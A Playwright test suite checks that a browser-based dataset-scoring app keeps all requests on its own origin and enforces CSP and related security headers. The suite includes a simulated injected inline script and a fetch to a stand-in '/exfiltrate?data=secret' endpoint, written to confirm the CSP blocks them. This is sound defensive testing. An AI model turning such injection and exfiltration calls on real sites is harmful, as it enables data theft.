/**
 * Privacy and security: nothing leaves the tab during upload → score (bundled demo model, WASM) → export; the
 * Content-Security-Policy and headers are sent and enforced (an injected inline script and a fetch to another
 * origin are blocked before any network); the icon exists; a normal model load logs no console error.
 */
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { expect, test, type Page } from "@playwright/test";
import { exportSelection, openApp, ROOT, upload } from "./helpers";

const DEMO = path.join(ROOT, "public/demo/demo-preferences.jsonl");
/** Pairs of the demo file scored here: enough for batches and an export, few enough for a quick WASM run. */
const PAIRS = 32;

/** An origin outside connect-src (playwright.config.ts allows http://127.0.0.1:* for the fake Hub, not localhost). */
const FOREIGN = "http://localhost:9";

/** The CSP as directive → values. */
function parseCsp(header: string): Map<string, string[]> {
  return new Map(
    header
      .split(";")
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([name, ...values]) => [name, values]),
  );
}

/** Records `securitypolicyviolation` events of the page (and frames) into `window.__cspViolations`. */
async function recordViolations(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const w = window as unknown as { __cspViolations: string[] };
    w.__cspViolations = [];
    document.addEventListener("securitypolicyviolation", (e) =>
      w.__cspViolations.push(`${e.effectiveDirective} ${e.blockedURI}`),
    );
  });
}

test("upload → score (demo model, WASM) → export → generate: every request stays on the app's origin, no error", async ({
  page,
  context,
  baseURL,
}) => {
  const origin = new URL(baseURL!).origin;
  const requests: string[] = [];
  const failures: string[] = [];
  const consoleErrors: string[] = [];
  context.on("request", (r) => requests.push(r.url()));
  context.on("requestfailed", (r) => failures.push(`${r.url()} ${r.failure()?.errorText}`));
  context.on("response", (r) => {
    if (r.status() >= 400) failures.push(`${r.url()} ${r.status()}`);
  });
  page.on("console", (m) => {
    if (m.type() === "error") consoleErrors.push(m.text());
  });
  page.on("pageerror", (e) => consoleErrors.push(e.message));
  await recordViolations(page);

  const lines = fs.readFileSync(DEMO, "utf8").split("\n").filter(Boolean).slice(0, PAIRS);
  const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "ma-security-")), "demo-preferences.jsonl");
  fs.writeFileSync(file, lines.join("\n") + "\n");

  await openApp(page);
  await upload(page, file);
  await expect(page.getByText(new RegExp(`^Selected \\d+ of ${PAIRS}$`))).toBeVisible();
  await page.getByLabel("Backend").selectOption({ label: "WASM" });
  await page.getByRole("button", { name: "Use demo model" }).click();
  await expect(page.getByTestId("model-policy")).toContainText("/models/demo-lm/");
  await expect(page.getByTestId("backend-policy")).toContainText("backend WASM");
  await page.getByRole("button", { name: "Score dataset" }).click();
  await expect(page.getByTestId("scoring-stats")).toContainText(`done: ${PAIRS} / ${PAIRS} pairs`, {
    timeout: 90_000,
  });
  await page.getByLabel("Selection ratio", { exact: true }).fill("1");
  // The demo file already holds chosen_logps etc., so the computed columns are not added.
  const { bytes } = await exportSelection(page, "JSONL");
  expect(bytes.toString("utf8").split("\n").filter(Boolean)).toHaveLength(PAIRS);

  // Self-play generation from the dataset's prompts, scored by the demo reward model, opened as pairs.
  const gen = page.getByRole("group", { name: "Generate responses" });
  await gen.getByRole("button", { name: "Use demo reward model" }).click();
  await expect(gen.getByTestId("generation-reward")).toContainText("/models/demo-rm/");
  await gen.getByLabel("Prompts from").selectOption({ label: "the loaded dataset's prompts" });
  await gen.getByLabel("Samples per prompt").fill("2");
  await gen.getByLabel("Max new tokens").fill("8");
  await gen.getByRole("button", { name: "Generate", exact: true }).click();
  await expect(page.getByRole("group", { name: "Generate responses" }).getByTestId("generation-note")).toContainText(
    `${PAIRS} of ${PAIRS} prompts`,
    { timeout: 90_000 },
  );
  await expect(page.getByTestId("plan-counts")).toContainText(`${PAIRS} records`);
  expect(requests.some((u) => u.endsWith("/models/demo-rm/onnx/model.onnx"))).toBe(true);

  // The worker's model download is among the recorded requests (so the recording sees workers too).
  expect(requests.some((u) => u.endsWith("/models/demo-lm/onnx/model.onnx"))).toBe(true);
  // The model's tokenizer_config.json has a chat template: no chat_template.jinja probe (and no 404).
  expect(requests.filter((u) => u.endsWith("chat_template.jinja"))).toEqual([]);
  const offOrigin = requests.filter(
    (u) => !u.startsWith("blob:") && !u.startsWith("data:") && new URL(u).origin !== origin,
  );
  expect(offOrigin).toEqual([]);
  expect(failures).toEqual([]);
  expect(consoleErrors).toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { __cspViolations: string[] }).__cspViolations)).toEqual([]);

  // The app's workers (dataset, scoring, …) are held to the same connect-src: a fetch from inside each is refused.
  // onnxruntime-web's own thread workers (ort.*.mjs) are left out: they sit in Atomics.wait between runs, so they
  // never answer an evaluate, and they run WASM only.
  const workers = page.workers().filter((w) => !/\/ort[.-][^/]*$/.test(new URL(w.url()).pathname));
  expect(workers.length).toBeGreaterThanOrEqual(2);
  for (const worker of workers) {
    const outcome = await worker.evaluate(async (url) => {
      const violation = new Promise<string>((resolve) => {
        self.addEventListener("securitypolicyviolation", (e) => resolve(e.effectiveDirective), { once: true });
        setTimeout(() => resolve("no violation"), 5000);
      });
      const result = await fetch(url).then(
        (r) => `answered ${r.status}`,
        (e: Error) => `rejected ${e.name}`,
      );
      return `${result}, ${await violation}`;
    }, `${FOREIGN}/from-worker`);
    expect(outcome, worker.url()).toBe("rejected TypeError, connect-src");
  }
  expect(requests.filter((u) => u.startsWith(FOREIGN))).toEqual([]);
});

test("headers: the CSP with every directive, COOP/COEP, no X-Powered-By; worker scripts carry the CSP too", async ({
  page,
}) => {
  const response = await page.goto("/");
  const headers = response!.headers();
  expect(headers["x-powered-by"]).toBeUndefined();
  expect(headers["cross-origin-opener-policy"]).toBe("same-origin");
  expect(headers["cross-origin-embedder-policy"]).toBe("require-corp");
  expect(headers["x-content-type-options"]).toBe("nosniff");
  const csp = parseCsp(headers["content-security-policy"] ?? "");
  const nonce = csp.get("script-src")?.find((v) => v.startsWith("'nonce-"));
  expect(nonce).toMatch(/^'nonce-[A-Za-z0-9+/=]{16,}'$/);
  expect(Object.fromEntries(csp)).toMatchObject({
    "default-src": ["'self'"],
    "script-src": ["'self'", nonce, "'wasm-unsafe-eval'"],
    "style-src": ["'self'", "'unsafe-inline'"],
    "worker-src": ["'self'", "blob:"],
    "img-src": ["'self'", "data:", "blob:"],
    "object-src": ["'none'"],
    "base-uri": ["'none'"],
    "form-action": ["'self'"],
    "frame-ancestors": ["'none'"],
  });
  expect(csp.get("connect-src")!.slice(0, 5)).toEqual([
    "'self'",
    "https://huggingface.co",
    "https://*.huggingface.co",
    "https://hf.co",
    "https://*.hf.co",
  ]);
  expect(csp.get("script-src")).not.toContain("'unsafe-inline'");
  expect(csp.get("script-src")).not.toContain("'unsafe-eval'");

  // A fresh nonce per response.
  const again = await page.request.get("/");
  expect(again.headers()["content-security-policy"]).not.toContain(nonce!);
  // Dedicated workers are governed by their own script's CSP: the static chunks carry it.
  const html = await again.text();
  const chunk = /\/_next\/static\/chunks\/[^"]+\.js/.exec(html)![0];
  const chunkResponse = await page.request.get(chunk);
  expect(chunkResponse.headers()["content-security-policy"]).toContain("connect-src 'self'");
  expect(chunkResponse.headers()["x-powered-by"]).toBeUndefined();
});

test("the CSP blocks an injected inline script and a fetch to another origin, before any network", async ({
  page,
  context,
}) => {
  const requests: string[] = [];
  context.on("request", (r) => requests.push(r.url()));
  await recordViolations(page);
  await openApp(page);

  const script = await page.evaluate(
    () =>
      new Promise<{ ran: boolean; violation: string }>((resolve) => {
        document.addEventListener(
          "securitypolicyviolation",
          (e) => resolve({ ran: "__injected" in window, violation: `${e.effectiveDirective} ${e.blockedURI}` }),
          { once: true },
        );
        const s = document.createElement("script");
        s.textContent = "window.__injected = true;";
        document.body.appendChild(s);
      }),
  );
  expect(script).toEqual({ ran: false, violation: "script-src-elem inline" });
  expect(await page.evaluate(() => "__injected" in window)).toBe(false);

  const blocked = await page.evaluate(async (url) => {
    const violation = new Promise<string>((resolve) =>
      document.addEventListener("securitypolicyviolation", (e) => resolve(`${e.effectiveDirective} ${e.blockedURI}`), {
        once: true,
      }),
    );
    const outcome = await fetch(url).then(
      (r) => `answered ${r.status}`,
      (e: Error) => `rejected ${e.name}`,
    );
    return { outcome, violation: await violation };
  }, `${FOREIGN}/exfiltrate?data=secret`);
  expect(blocked.outcome).toBe("rejected TypeError");
  expect(blocked.violation).toBe(`connect-src ${FOREIGN}/exfiltrate?data=secret`);
  expect(requests.filter((u) => u.startsWith(FOREIGN))).toEqual([]);
});

test("the icon answers 200", async ({ page }) => {
  await page.goto("/");
  const href = await page.locator('link[rel="icon"]').first().getAttribute("href");
  expect(href).toMatch(/^\/icon\.svg/);
  const icon = await page.request.get(href!);
  expect(icon.status()).toBe(200);
  expect(icon.headers()["content-type"]).toContain("image/svg+xml");
});
